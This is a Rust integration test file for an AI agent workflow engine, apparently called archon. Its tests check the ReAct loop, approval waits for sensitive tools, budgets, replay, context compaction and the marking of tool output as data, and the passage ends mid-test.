//! Agent steps against the scripted `mock` provider: the ReAct loop, its recoveries and its bounds.

use std::collections::BTreeMap;
use std::path::Path;
use std::sync::Arc;

use archon_engine::run::{self, RunEvent, RunOptions, RunReport, StepStatus};
use archon_engine::store::MemoryJournal;
use serde_json::{Map, json};
use tempfile::TempDir;
use tokio_util::sync::CancellationToken;

/// Runs `yaml` (validated from a file in `dir`) and returns the report and its events.
pub(crate) async fn run_agent(dir: &Path, yaml: &str) -> (RunReport, Vec<RunEvent>) {
    std::fs::write(dir.join("agent.yaml"), yaml).expect("write");
    let validation = archon_engine::validate_file(&dir.join("agent.yaml"));
    assert!(!validation.has_errors(), "{:?}", validation.diagnostics);
    let workflow = validation.workflow.expect("valid");
    let (sender, mut receiver) = tokio::sync::mpsc::unbounded_channel();
    let options = RunOptions {
        max_parallel: 4,
        protected: Vec::new(),
        workdir: dir.to_path_buf(),
        run_id: "agent".into(),
        cancel: CancellationToken::new(),
        events: Some(sender),
        env: BTreeMap::new(),
        journal: Arc::new(MemoryJournal),
        prior: Default::default(),
        cassette: None,
        checkpoints: Default::default(),
        approvals: Default::default(),
        helper: Some(env!("CARGO_BIN_EXE_archon").into()),
        cache: Default::default(),
        memory_dir: None,
        memory: Default::default(),
    };
    let report = run::run(Arc::new(workflow), Map::new(), options)
        .await
        .expect("run starts");
    let mut events = Vec::new();
    while let Ok(event) = receiver.try_recv() {
        events.push(event);
    }
    (report, events)
}

fn spec(turns: &str, step: &str) -> String {
    format!(
        "name: agent\nllm:\n  providers:\n    scripted:\n      kind: mock\n      turns:\n{turns}\nsteps:\n{step}\n"
    )
}

const CALCULATE: &str = "  - id: answer\n    goal: calculate 20% of 50\n    tools: [calculator]\n";

#[tokio::test]
async fn calculate_twenty_percent_of_fifty_in_two_iterations() {
    let dir = TempDir::new().expect("tempdir");
    let turns = "        - tool_calls: [{ name: calculator, arguments: { expression: \"50 * 20 / 100\" } }]\n        - text: \"10\"";
    let (report, events) = run_agent(dir.path(), &spec(turns, CALCULATE)).await;
    let answer = &report.steps["answer"];
    assert_eq!(answer.status, StepStatus::Succeeded, "{answer:?}");
    assert_eq!(answer.output, json!("10"));
    let llm = answer.llm.as_ref().expect("usage");
    assert_eq!(llm.calls, 2);
    assert_eq!(report.llm.as_ref().map(|l| l.calls), Some(2));
    let observed: Vec<&str> = events
        .iter()
        .filter_map(|e| match e {
            RunEvent::AgentObservation {
                tool, text, error, ..
            } if !error => Some((tool.as_str(), text.as_str())),
            _ => None,
        })
        .map(|(_, text)| text)
        .collect();
    assert_eq!(
        observed,
        ["10"],
        "the calculator's result is the observation"
    );
    assert_eq!(
        events
            .iter()
            .filter(|e| matches!(e, RunEvent::LlmCall { .. }))
            .count(),
        2
    );
}

#[tokio::test]
async fn an_unknown_tool_and_invalid_arguments_are_observations_the_model_recovers_from() {
    let dir = TempDir::new().expect("tempdir");
    let turns = "        - tool_calls: [{ name: calc, arguments: { expression: \"1\" } }]\n        - tool_calls: [{ name: calculator, arguments: { expr: \"50 * 0.2\" } }]\n        - tool_calls: [{ name: calculator, arguments: { expression: \"50 * 0.2\" } }]\n        - text: \"10\"";
    let (report, events) = run_agent(dir.path(), &spec(turns, CALCULATE)).await;
    assert_eq!(report.steps["answer"].status, StepStatus::Succeeded);
    let errors: Vec<String> = events
        .iter()
        .filter_map(|e| match e {
            RunEvent::AgentObservation {
                text, error: true, ..
            } => Some(text.clone()),
            _ => None,
        })
        .collect();
    assert_eq!(errors.len(), 2, "{errors:?}");
    assert_eq!(errors[0], "unknown tool `calc`; the tools are `calculator`");
    assert!(
        errors[1].starts_with("invalid arguments for `calculator` at"),
        "{}",
        errors[1]
    );
}

#[tokio::test]
async fn the_same_call_over_and_over_ends_stuck() {
    let dir = TempDir::new().expect("tempdir");
    let same =
        "        - tool_calls: [{ name: calculator, arguments: { expression: \"1 + 1\" } }]\n";
    let (report, events) = run_agent(dir.path(), &spec(&same.repeat(6), CALCULATE)).await;
    let answer = &report.steps["answer"];
    assert_eq!(answer.status, StepStatus::Stuck);
    let error = answer.error.as_deref().unwrap_or_default();
    assert!(
        error.starts_with("the agent called `calculator` with the same arguments 4 times"),
        "{error}"
    );
    assert_eq!(
        report.status,
        run::RunStatus::Failed,
        "a stuck step fails the run"
    );
    assert!(
        events.iter().any(|e| matches!(e, RunEvent::AgentObservation { text, .. } if text.contains("already made this exact call"))),
        "a warning comes first"
    );
}

#[tokio::test]
async fn the_iteration_limit_asks_for_a_best_answer_and_says_incomplete() {
    let dir = TempDir::new().expect("tempdir");
    let turns = "        - tool_calls: [{ name: calculator, arguments: { expression: \"1\" } }]\n        - tool_calls: [{ name: calculator, arguments: { expression: \"2\" } }]\n        - text: \"probably 10\"";
    let step = "  - id: answer\n    goal: calculate 20% of 50\n    tools: [calculator]\n    max_iterations: 2\n";
    let (report, _) = run_agent(dir.path(), &spec(turns, step)).await;
    let answer = &report.steps["answer"];
    assert_eq!(answer.status, StepStatus::Incomplete);
    assert_eq!(
        answer.error.as_deref(),
        Some("no final answer within 2 iterations; best answer: probably 10")
    );
    assert_eq!(answer.llm.as_ref().map(|l| l.calls), Some(3));
    // A model that gives no best answer either: no empty `best answer: ` is shown.
    let dir = TempDir::new().expect("tempdir");
    let silent = turns.replace("probably 10", " ");
    let (report, _) = run_agent(dir.path(), &spec(&silent, step)).await;
    assert_eq!(
        report.steps["answer"].error.as_deref(),
        Some("no final answer within 2 iterations")
    );
}

#[tokio::test]
async fn an_answer_that_misses_the_output_schema_is_sent_back() {
    let dir = TempDir::new().expect("tempdir");
    let turns = "        - text: \"It is 10.\"\n        - text: '{\"value\": \"ten\"}'\n        - text: \"```json\\n{\\\"value\\\": 10}\\n```\"";
    let step = "  - id: answer\n    goal: calculate 20% of 50\n    output_schema: { type: object, properties: { value: { type: number } }, required: [value] }\n";
    let (report, _) = run_agent(dir.path(), &spec(turns, step)).await;
    let answer = &report.steps["answer"];
    assert_eq!(answer.status, StepStatus::Succeeded, "{answer:?}");
    assert_eq!(answer.output, json!({ "value": 10 }));
    assert_eq!(answer.llm.as_ref().map(|l| l.calls), Some(3));
}

/// Issue 14, item 1: an `output_schema` whose root is not an object (the release-notes workflow's
/// `{type: string, enum: [feature, fix, chore]}`) was sent as it is, which OpenAI's structured outputs and
/// Anthropic's tool `input_schema` refuse. It is sent as the one required property `value` of an object,
/// and the answer is taken back out of it; a bare `fix` or `"fix"` is accepted as it is, not corrected.
#[tokio::test]
async fn an_answer_schema_that_is_not_an_object_is_sent_wrapped_and_answers_come_back_unwrapped() {
    use std::sync::atomic::{AtomicUsize, Ordering};
    let schema = json!({ "type": "string", "enum": ["feature", "fix", "chore"] });
    for (answer, expected) in [
        (r#"{"value": "fix"}"#, "fix"),
        ("chore", "chore"),
        ("\"feature\"", "feature"),
    ] {
        let server = wiremock::MockServer::start().await;
        let answered = AtomicUsize::new(0);
        wiremock::Mock::given(wiremock::matchers::method("POST"))
            .respond_with(move |_: &wiremock::Request| {
                answered.fetch_add(1, Ordering::SeqCst);
                crate::support::chat_completion(json!({ "role": "assistant", "content": answer }))
            })
            .mount(&server)
            .await;
        let dir = TempDir::new().expect("tempdir");
        let yaml = format!(
            "name: kinds\nllm:\n  providers:\n    local: {{ kind: openai, base_url: \"{}/v1\", model: m }}\nsteps:\n  - id: kind\n    goal: classify `fix the parser`\n    output_schema: {schema}\n",
            server.uri()
        );
        let (report, _) = run_agent(dir.path(), &yaml).await;
        let kind = &report.steps["kind"];
        assert_eq!(
            (
                kind.status,
                &kind.output,
                kind.llm.as_ref().map(|l| l.calls)
            ),
            (StepStatus::Succeeded, &json!(expected), Some(1)),
            "{answer}: {kind:?}"
        );
        let sent: Vec<serde_json::Value> =
            (server.received_requests().await.unwrap_or_default().iter())
                .map(|r| serde_json::from_slice(&r.body).expect("JSON"))
                .collect();
        assert_eq!(
            sent[0]["response_format"],
            json!({ "type": "json_schema", "json_schema": { "name": "output", "schema": {
                "type": "object",
                "properties": { "value": schema },
                "required": ["value"],
                "additionalProperties": false
            } } })
        );
    }
}

/// Issue 14, item 6: a model offered native tools that writes its final answer the text-mode way kept
/// `Thought: … Final Answer: 10` as the step's output; the output is `10`, the thought is in the trail.
#[tokio::test]
async fn a_final_answer_written_as_text_gives_the_answer_and_keeps_the_thought_in_the_trail() {
    let dir = TempDir::new().expect("tempdir");
    let turns = "        - text: \"Thought: a fifth of 50.\\nFinal Answer: 10\"";
    let (report, events) = run_agent(dir.path(), &spec(turns, CALCULATE)).await;
    let answer = &report.steps["answer"];
    assert_eq!(
        (answer.status, &answer.output),
        (StepStatus::Succeeded, &json!("10"))
    );
    let thoughts: Vec<&str> = events
        .iter()
        .filter_map(|e| match e {
            RunEvent::AgentThought { text, .. } => Some(text.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(thoughts, ["a fifth of 50."]);
}

#[tokio::test]
async fn the_llm_budget_stops_the_step_with_a_clear_error() {
    let dir = TempDir::new().expect("tempdir");
    let turns = "        - tool_calls: [{ name: calculator, arguments: { expression: \"50 * 0.2\" } }]\n        - text: \"10\"\n  budget: { max_llm_calls: 1 }";
    let (report, _) = run_agent(dir.path(), &spec(turns, CALCULATE)).await;
    let answer = &report.steps["answer"];
    assert_eq!(answer.status, StepStatus::Failed);
    assert_eq!(
        answer.error.as_deref(),
        Some("LLM budget exceeded: `max_llm_calls` is `1`")
    );
}

#[tokio::test]
async fn a_sensitive_tool_an_agent_chooses_waits_for_approval() {
    let dir = TempDir::new().expect("tempdir");
    let turns = "        - tool_calls: [{ name: write_file, arguments: { path: x.txt, content: x } }]\n        - text: \"done\"";
    let step = "  - id: answer\n    goal: write x\n    tools: [write_file, calculator]\n";
    let (report, events) = run_agent(dir.path(), &spec(turns, step)).await;
    assert_eq!(report.steps["answer"].status, StepStatus::WaitingApproval);
    assert_eq!(report.status, run::RunStatus::WaitingApproval);
    assert!(
        !dir.path().join("x.txt").exists(),
        "the write waits for a person"
    );
    assert!(events.iter().any(|e| matches!(
        e,
        RunEvent::ApprovalRequested { tool: Some(tool), .. } if tool == "write_file"
    )));
}

#[tokio::test]
async fn an_agent_may_read_over_http_and_asks_before_changing_things() {
    let dir = TempDir::new().expect("tempdir");
    let turns = "        - tool_calls: [{ name: http, arguments: { url: \"http://127.0.0.1:9/x\", method: POST, json: { a: 1 } } }]\n        - text: \"gave up\"";
    let step = "  - id: answer\n    goal: post something\n    tools: [http]\n";
    let (report, events) = run_agent(dir.path(), &spec(turns, step)).await;
    assert_eq!(report.steps["answer"].status, StepStatus::WaitingApproval);
    assert!(events.iter().any(|e| matches!(e, RunEvent::ApprovalRequested { reason, .. } if reason.contains("sensitive"))), "{events:?}");
    // A rule may allow what would otherwise ask.
    let allowed = spec(turns, step)
        + "rules:\n  - { on: before_tool, match: { tool: http, chosen_by: llm }, action: allow }\n";
    let (report, events) = run_agent(dir.path(), &allowed).await;
    assert_eq!(report.steps["answer"].status, StepStatus::Succeeded);
    assert!(
        events.iter().any(
            |e| matches!(e, RunEvent::AgentObservation { tool, error: true, .. } if tool == "http")
        ),
        "the request was made (and failed): {events:?}"
    );
}

#[test]
fn a_recorded_run_replays_offline_and_a_changed_request_fails() {
    use crate::support::{Output, archon};
    let dir = TempDir::new().expect("tempdir");
    let turns = "        - tool_calls: [{ name: calculator, arguments: { expression: \"50 * 20 / 100\" } }]\n        - text: \"10\"";
    std::fs::write(dir.path().join("agent.yaml"), spec(turns, CALCULATE)).expect("write");
    let Output { code, stderr, .. } = archon(
        dir.path(),
        &["run", "agent.yaml", "--record", "calls.cassette"],
    );
    assert_eq!(code, 0, "{stderr}");
    // The replay needs no provider: the scripted turns are gone, the cassette answers.
    std::fs::write(
        dir.path().join("agent.yaml"),
        spec("        - text: \"this turn is never used\"", CALCULATE),
    )
    .expect("write");
    let Output {
        code,
        stdout,
        stderr,
    } = archon(
        dir.path(),
        &["run", "agent.yaml", "--replay", "calls.cassette", "--json"],
    );
    assert_eq!(code, 0, "{stderr}");
    let report: serde_json::Value = serde_json::from_str(&stdout).expect("report");
    assert_eq!(report["steps"]["answer"]["output"], "10");
    // A different goal is a different request: replay fails loudly.
    std::fs::write(
        dir.path().join("agent.yaml"),
        spec(turns, &CALCULATE.replace("20% of 50", "30% of 50")),
    )
    .expect("write");
    let Output { code, stdout, .. } = archon(
        dir.path(),
        &["run", "agent.yaml", "--replay", "calls.cassette", "--json"],
    );
    assert_eq!(code, 1);
    let report: serde_json::Value = serde_json::from_str(&stdout).expect("report");
    let error = report["steps"]["answer"]["error"]
        .as_str()
        .unwrap_or_default();
    assert!(
        error.contains("replay: this request was not recorded"),
        "{error}"
    );
}

#[tokio::test(start_paused = true)]
async fn the_calls_of_one_turn_run_together() {
    let dir = TempDir::new().expect("tempdir");
    let turns = "        - tool_calls: [{ name: sleep, arguments: { duration: 10s } }, { name: sleep, arguments: { duration: 9s } }, { name: sleep, arguments: { duration: 8s } }]\n        - text: \"rested\"";
    let step = "  - id: answer\n    goal: rest three times\n    tools: [sleep]\n";
    let started = tokio::time::Instant::now();
    let (report, events) = run_agent(dir.path(), &spec(turns, step)).await;
    assert_eq!(report.steps["answer"].status, StepStatus::Succeeded);
    assert_eq!(
        started.elapsed(),
        std::time::Duration::from_secs(10),
        "not 27 s: the calls overlap"
    );
    let observed = events
        .iter()
        .filter(|e| matches!(e, RunEvent::AgentObservation { error: false, .. }))
        .count();
    assert_eq!(observed, 3);
}

#[tokio::test]
async fn text_mode_reads_and_repairs_actions_written_as_text() {
    let dir = TempDir::new().expect("tempdir");
    let yaml = r#"name: agent
llm:
  providers:
    weak:
      kind: mock
      tool_mode: text
      turns:
        - text: "Action: calculator, please"
        - text: "Thought: I need the calculator.\nAction: ```json\n{'tool': 'calculator', 'arguments': {'expression': '50 * 20 / 100',},}\n```"
        - text: "Final Answer: 10"
steps:
  - id: answer
    goal: calculate 20% of 50
    tools: [calculator]
"#;
    let (report, events) = run_agent(dir.path(), yaml).await;
    let answer = &report.steps["answer"];
    assert_eq!(answer.status, StepStatus::Succeeded, "{answer:?}");
    assert_eq!(answer.output, json!("10"));
    let observations: Vec<(bool, String)> = events
        .iter()
        .filter_map(|e| match e {
            RunEvent::AgentObservation { text, error, .. } => Some((*error, text.clone())),
            _ => None,
        })
        .collect();
    assert_eq!(observations.len(), 2, "{observations:?}");
    assert!(
        observations[0].0
            && observations[0]
                .1
                .starts_with("your action is not a JSON object")
    );
    assert_eq!(
        observations[1],
        (false, "10".to_owned()),
        "the repaired action ran"
    );
}

/// Issue 14, item 13: `llm ping` printed the model's answer as it came, newlines and escape sequences
/// included; it is one line, escaped.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn llm_ping_prints_the_answer_on_one_line() {
    let server = wiremock::MockServer::start().await;
    wiremock::Mock::given(wiremock::matchers::method("POST"))
        .respond_with(crate::support::chat_completion(json!({
            "role": "assistant", "content": "pong,\n  twice\u{1b}[31m\n"
        })))
        .mount(&server)
        .await;
    let dir = TempDir::new().expect("tempdir");
    std::fs::write(
        dir.path().join("spec.yaml"),
        format!(
            "name: p\nllm:\n  providers:\n    local: {{ kind: openai, base_url: \"{}/v1\", model: m }}\nsteps:\n  - {{ id: a, goal: say pong }}\n",
            server.uri()
        ),
    )
    .expect("spec");
    let path = dir.path().to_path_buf();
    let out = tokio::task::spawn_blocking(move || {
        crate::support::archon(&path, &["llm", "ping", "local", "--spec", "spec.yaml"])
    })
    .await
    .expect("ran");
    assert_eq!(out.code, 0, "{}", out.stderr);
    let answer: Vec<&str> = out
        .stdout
        .lines()
        .filter(|l| l.starts_with("answer"))
        .collect();
    assert_eq!(answer, ["answer    pong, twice\\u{001b}[31m"]);
}

#[test]
fn show_events_renders_the_agent_trail_readably() {
    let dir = TempDir::new().expect("tempdir");
    std::fs::copy(
        crate::support::root().join("workflows/agent-calculator.yaml"),
        dir.path().join("calc.yaml"),
    )
    .expect("copy");
    let run = crate::support::archon(dir.path(), &["run", "calc.yaml", "--json"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let id = serde_json::from_str::<serde_json::Value>(&run.stdout).expect("report")["run_id"]
        .as_str()
        .expect("id")
        .to_owned();
    let shown = crate::support::archon(dir.path(), &["show", &id, "--events"]);
    assert_eq!(shown.code, 0, "{}", shown.stderr);
    let trail = shown.stdout;
    let order: Vec<usize> = [
        "started   answer",
        "llm       answer: `scripted` (mock)",
        "action    answer #1: calculator {\"expression\":\"50 * 20 / 100\"}",
        "observed  answer #1: calculator ->",
        "answer    answer #2: 20% of 50 is 10.",
        "succeeded answer",
    ]
    .iter()
    .map(|line| {
        trail
            .find(line)
            .unwrap_or_else(|| panic!("`{line}` is not in the trail:\n{trail}"))
    })
    .collect();
    assert!(order.is_sorted(), "in the order it happened:\n{trail}");
    assert!(
        trail.lines().all(|l| l.starts_with(' ')),
        "each line starts with its time:\n{trail}"
    );
}

/// Against a real OpenAI-compatible server (llama.cpp from `../shared/tools/local-llm.sh start`), when
/// `ARCHON_E2E_OPENAI_BASE_URL` names it: an agent step and a planner step end within their bounds with a
/// clear status, whatever the model says. Without the variable the test checks nothing and says so.
#[tokio::test]
#[allow(clippy::print_stderr)]
async fn agent_and_planner_steps_end_within_bounds_against_a_real_server() {
    let Ok(base_url) = std::env::var("ARCHON_E2E_OPENAI_BASE_URL") else {
        eprintln!("skipped: set ARCHON_E2E_OPENAI_BASE_URL to run against a real server");
        return;
    };
    let dir = TempDir::new().expect("tempdir");
    let yaml = "name: e2e\nllm:\n  providers:\n    local: { kind: openai, model: local, max_tokens: 128, timeout: 120s }\n  budget: { max_llm_calls: 12 }\nsteps:\n  - id: agent\n    goal: What is 20% of 50? Use the calculator tool, then answer with the number.\n    tools: [calculator]\n    max_iterations: 3\n  - id: planner\n    plan: Compute 20% of 50 with the calculator.\n    tools: [calculator]\n    needs: [agent]\n    if: \"true\"\n";
    std::fs::write(dir.path().join("e2e.yaml"), yaml).expect("write");
    let workflow = archon_engine::validate_file(&dir.path().join("e2e.yaml"))
        .workflow
        .expect("valid");
    let (sender, mut receiver) = tokio::sync::mpsc::unbounded_channel();
    let mut options = RunOptions::new(dir.path().to_path_buf(), "e2e");
    options.events = Some(sender);
    options.env = BTreeMap::from([("OPENAI_BASE_URL".to_owned(), base_url)]);
    let started = std::time::Instant::now();
    let report = run::run(Arc::new(workflow), Map::new(), options)
        .await
        .expect("run starts");
    let mut trail = Vec::new();
    while let Ok(event) = receiver.try_recv() {
        trail.push(event);
    }
    for (id, step) in &report.steps {
        eprintln!(
            "e2e {id}: {} in {} ms, {} LLM calls, output {}, error {:?}",
            step.status.as_str(),
            step.duration_ms,
            step.llm.as_ref().map_or(0, |l| l.calls),
            step.output,
            step.error
        );
        assert!(
            matches!(
                step.status,
                StepStatus::Succeeded
                    | StepStatus::Failed
                    | StepStatus::Stuck
                    | StepStatus::Incomplete
            ),
            "{id} ended {:?}",
            step.status
        );
        if step.status != StepStatus::Succeeded {
            assert!(
                step.error.as_deref().is_some_and(|e| !e.is_empty()),
                "{id} says why"
            );
        }
    }
    let calls = report.llm.as_ref().map_or(0, |l| l.calls);
    assert!(calls <= 12, "the budget holds: {calls} calls");
    eprintln!(
        "e2e run: {} LLM calls, {} events, {} ms",
        calls,
        trail.len(),
        started.elapsed().as_millis()
    );
}

mod context {
    //! Context management: token estimates, cut tool outputs, compaction of earlier turns and the status
    //! note, checked on the requests a local OpenAI-compatible server (wiremock) receives.

    use std::sync::atomic::{AtomicUsize, Ordering};

    use archon_engine::llm::Message;
    use archon_engine::llm::tokens::{Encoding, Estimator};
    use archon_engine::run::{RunEvent, StepStatus};
    use serde_json::{Value as Json, json};
    use tempfile::TempDir;
    use wiremock::matchers::method;
    use wiremock::{Mock, MockServer, Request};

    use super::run_agent;

    #[test]
    fn openai_models_are_counted_with_their_tokenizer_and_others_approximately() {
        let gpt4o = Estimator::for_model("gpt-4o");
        assert_eq!(gpt4o.encoding(), Encoding::O200k);
        // OpenAI's cookbook: `tiktoken is great!` is 6 tokens in both encodings.
        assert_eq!(gpt4o.text("tiktoken is great!"), 6);
        assert_eq!(
            gpt4o.text("The quick brown fox jumps over the lazy dog."),
            10
        );
        let gpt4 = Estimator::for_model("gpt-4");
        assert_eq!(gpt4.encoding(), Encoding::Cl100k);
        assert_eq!(gpt4.text("tiktoken is great!"), 6);
        // A message adds its role and separators.
        assert_eq!(gpt4o.message(&Message::user("hello world")), 2 + 4);

        let claude = Estimator::for_model("claude-sonnet-4-5");
        assert_eq!(claude.encoding(), Encoding::Approximate);
        // 11 letters and spaces at 4.5 a token.
        assert_eq!(claude.text("hello world"), 3);
        // Symbols cost more than words: JSON is not counted as prose.
        let json = r#"{"id":1,"name":"item-1","tags":["a","b"],"ok":true}"#.repeat(50);
        let prose = "The quick brown fox jumps over the lazy dog and runs away. ".repeat(45);
        let (exact_json, exact_prose) = (gpt4o.text(&json), gpt4o.text(&prose));
        for (approximate, exact) in [
            (claude.text(&json), exact_json),
            (claude.text(&prose), exact_prose),
        ] {
            let error = approximate.abs_diff(exact) as f64 / exact as f64;
            assert!(error < 0.25, "{approximate} against {exact}");
        }
    }

    pub(super) use crate::support::chat_completion as completion;

    /// An assistant message calling `read_file` on `path`, as call `call_<turn>`.
    fn read_file(turn: usize, path: &str) -> Json {
        json!({ "role": "assistant", "content": null, "tool_calls": [{
            "id": format!("call_{turn}"), "type": "function",
            "function": { "name": "read_file", "arguments": json!({ "path": path }).to_string() }
        }] })
    }

    /// A server answering tool-offering requests with `turns` in order, and requests without tools (summary
    /// requests) with `summary`.
    async fn server(turns: Vec<Json>, summary: &'static str) -> MockServer {
        let server = MockServer::start().await;
        let next = AtomicUsize::new(0);
        Mock::given(method("POST"))
            .respond_with(move |request: &Request| {
                let body: Json = serde_json::from_slice(&request.body).unwrap_or_default();
                if body.get("tools").is_none() {
                    return completion(json!({ "role": "assistant", "content": summary }));
                }
                let turn = next.fetch_add(1, Ordering::SeqCst);
                completion(
                    turns.get(turn).cloned().unwrap_or_else(
                        || json!({ "role": "assistant", "content": "out of turns" }),
                    ),
                )
            })
            .mount(&server)
            .await;
        server
    }

    pub(super) async fn bodies(server: &MockServer) -> Vec<Json> {
        server
            .received_requests()
            .await
            .unwrap_or_default()
            .iter()
            .map(|r| serde_json::from_slice(&r.body).unwrap_or_default())
            .collect()
    }

    pub(super) fn spec(server: &MockServer, provider: &str, step: &str) -> String {
        format!(
            "name: context\nllm:\n  providers:\n    local: {{ kind: openai, base_url: \"{}/v1\", {provider} }}\nsteps:\n  - {{ id: answer, {step} }}\n",
            server.uri()
        )
    }

    /// The `content` of every message of a request, in order.
    fn contents(body: &Json) -> Vec<String> {
        body["messages"]
            .as_array()
            .map(|messages| {
                messages
                    .iter()
                    .map(|m| m["content"].as_str().unwrap_or_default().to_owned())
                    .collect()
            })
            .unwrap_or_default()
    }

    /// About 670 tokens of prose holding `word`.
    fn fact(word: &str) -> String {
        format!(
            "The code word is {word}. {}",
            "Nothing else in this file matters at all. ".repeat(70)
        )
    }

    const GOAL: &str = "Read fact-1.txt, fact-2.txt and fact-3.txt and report their code words.";

    #[tokio::test]
    async fn a_long_conversation_is_compacted_once_keeping_the_goal_and_the_latest_turn() {
        let dir = TempDir::new().expect("tempdir");
        for (n, word) in [(1, "ALPHA"), (2, "BRAVO"), (3, "CHARLIE")] {
            std::fs::write(dir.path().join(format!("fact-{n}.txt")), fact(word)).expect("write");
        }
        let server = server(
            vec![
                read_file(0, "fact-1.txt"),
                read_file(1, "fact-2.txt"),
                read_file(2, "fact-3.txt"),
                json!({ "role": "assistant", "content": "ALPHA BRAVO CHARLIE" }),
            ],
            "fact-1.txt holds the code word ALPHA and fact-2.txt the code word BRAVO.",
        )
        .await;
        // 8,000 tokens at 25%: the fourth request (about 2,200 tokens) passes 2,000.
        let yaml = spec(
            &server,
            "model: local-model, context_window: 8000, compact_at: 0.25",
            &format!("goal: \"{GOAL}\", tools: [read_file]"),
        );
        let (report, events) = run_agent(dir.path(), &yaml).await;
        let answer = &report.steps["answer"];
        assert_eq!(answer.status, StepStatus::Succeeded, "{answer:?}");
        assert_eq!(answer.output, json!("ALPHA BRAVO CHARLIE"));

        let compactions: Vec<(u32, u32, u64, u64)> = events
            .iter()
            .filter_map(|e| match e {
                RunEvent::AgentCompacted {
                    iteration,
                    turns,
                    tokens_before,
                    tokens_after,
                    ..
                } => Some((*iteration, *turns, *tokens_before, *tokens_after)),
                _ => None,
            })
            .collect();
        assert_eq!(compactions.len(), 1, "{compactions:?}");
        // The step's result says what its working memory was and how often it was compacted (`archon
        // show` lists it).
        assert_eq!(
            answer.llm.as_ref().and_then(|l| l.context),
            Some(archon_engine::report::ContextUse {
                window: 8000,
                compact_at: 2000,
                compactions: 1
            })
        );
        let (iteration, turns, before, after) = compactions[0];
        assert_eq!(
            (iteration, turns),
            (4, 2),
            "before the fourth request, two turns"
        );
        assert!(before > 2000 && after < before / 2, "{before} -> {after}");
        let calls = events
            .iter()
            .filter(|e| matches!(e, RunEvent::LlmCall { .. }))
            .count();
        assert_eq!(calls, 5, "four turns and one summary, each an `llm_call`");

        let bodies = bodies(&server).await;
        assert_eq!(bodies.len(), 5);
        // The summary request: no tools, the goal and the two older turns, not the latest one.
        let summary_request = &bodies[3];
        assert!(summary_request.get("tools").is_none(), "{summary_request}");
        let asked = contents(summary_request).join("\n");
        assert!(asked.contains(GOAL), "{asked}");
        for older in ["fact-1.txt", "ALPHA", "fact-2.txt", "BRAVO"] {
            assert!(asked.contains(older), "{older} missing from {asked}");
        }
        assert!(!asked.contains("CHARLIE"), "the latest turn stays out");

        // The next request: system prompt, the goal verbatim, the summary, the latest turn whole, the note.
        let next = &bodies[4];
        let messages = next["messages"].as_array().expect("messages");
        let roles: Vec<&str> = messages.iter().filter_map(|m| m["role"].as_str()).collect();
        assert_eq!(
            roles,
            ["system", "user", "user", "assistant", "tool", "user"]
        );
        assert_eq!(messages[0], bodies[0]["messages"][0], "the system prompt");
        assert_eq!(messages[1]["content"], GOAL);
        assert_eq!(
            messages[2]["content"],
            "Summary of earlier turns: <tool_output>\nfact-1.txt holds the code word ALPHA and fact-2.txt the code word BRAVO.\n</tool_output>",
            "the summary retells tool output: it is marked as data"
        );
        assert_eq!(messages[3]["tool_calls"][0]["id"], "call_2");
        assert_eq!(messages[4]["tool_call_id"], "call_2");
        assert!(
            messages[4]["content"]
                .as_str()
                .is_some_and(|c| c.starts_with("<tool_output>\nThe code word is CHARLIE.")),
            "{}",
            messages[4]
        );
        let shown = contents(next).join("\n");
        assert!(
            !shown.contains("The code word is ALPHA"),
            "older turns are gone"
        );
    }

    #[test]
    fn a_prompt_that_cannot_fit_fails_the_step_with_the_numbers() {
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .expect("runtime");
        let dir = TempDir::new().expect("tempdir");
        let yaml = "name: agent\nllm:\n  providers:\n    scripted: { kind: mock, model: small, context_window: 40, turns: [{ text: hi }] }\nsteps:\n  - id: answer\n    goal: say hi to everyone in the team, one by one, politely\n";
        let (report, events) = rt.block_on(run_agent(dir.path(), yaml));
        let answer = &report.steps["answer"];
        assert_eq!(answer.status, StepStatus::Failed);
        let error = answer.error.as_deref().unwrap_or_default();
        assert!(
            error.starts_with("the prompt needs about `")
                && error.ends_with(
                    "` tokens, more than the `40`-token context window of `small` allows, there are no earlier turns to compact"
                ),
            "{error}"
        );
        assert!(
            !events.iter().any(|e| matches!(e, RunEvent::LlmCall { .. })),
            "no request was sent"
        );
    }

    #[tokio::test]
    async fn a_large_tool_output_reaches_the_model_cut_with_a_marker() {
        let dir = TempDir::new().expect("tempdir");
        let big = "line of a large log file, with some numbers 12345 and words\n".repeat(1000);
        std::fs::write(dir.path().join("big.log"), &big).expect("write");
        let server = server(
            vec![
                read_file(0, "big.log"),
                json!({ "role": "assistant", "content": "a log" }),
            ],
            "unused",
        )
        .await;
        let yaml = spec(
            &server,
            "model: gpt-4o-mini",
            "goal: what is in big.log?, tools: [read_file]",
        );
        let (report, events) = run_agent(dir.path(), &yaml).await;
        assert_eq!(report.steps["answer"].status, StepStatus::Succeeded);

        let bodies = bodies(&server).await;
        let tool = bodies[1]["messages"]
            .as_array()
            .and_then(|m| m.iter().find(|m| m["role"] == "tool"))
            .and_then(|m| m["content"].as_str())
            .expect("a tool message")
            .to_owned();
        // The output is shown as data, between markers.
        let tool = tool
            .strip_prefix("<tool_output>\n")
            .and_then(|t| t.strip_suffix("\n</tool_output>"))
            .unwrap_or_else(|| panic!("not marked as data: {tool}"))
            .to_owned();
        let (kept, marker) = tool.rsplit_once('\n').expect("a marker line");
        let total = big.chars().count();
        let shown = kept.chars().count();
        assert_eq!(
            marker,
            format!(
                "[... cut: {} more characters not shown; the first {shown} of {total} are above]",
                total - shown
            )
        );
        assert!(big.starts_with(kept));
        // At most 1,000 tokens of it, by gpt-4o-mini's own tokenizer.
        let tokens = Estimator::for_model("gpt-4o-mini").text(kept);
        assert!((900..=1000).contains(&tokens), "{tokens}");
        // The event shows what the model saw, and keeps the whole output.
        let observed = events.iter().find_map(|e| match e {
            RunEvent::AgentObservation {
                text, full_text, ..
            } => Some((text.clone(), full_text.clone())),
            _ => None,
        });
        assert_eq!(observed, Some((tool, Some(big))));
    }

    #[tokio::test]
    async fn the_status_note_goes_with_each_request_and_is_never_kept() {
        let dir = TempDir::new().expect("tempdir");
        std::fs::write(dir.path().join("a.txt"), "alpha").expect("write");
        let server = server(
            vec![
                read_file(0, "a.txt"),
                json!({ "role": "assistant", "content": "alpha" }),
            ],
            "unused",
        )
        .await;
        let yaml = spec(
            &server,
            "model: local-model",
            "goal: read a.txt, tools: [read_file], max_iterations: 4",
        )
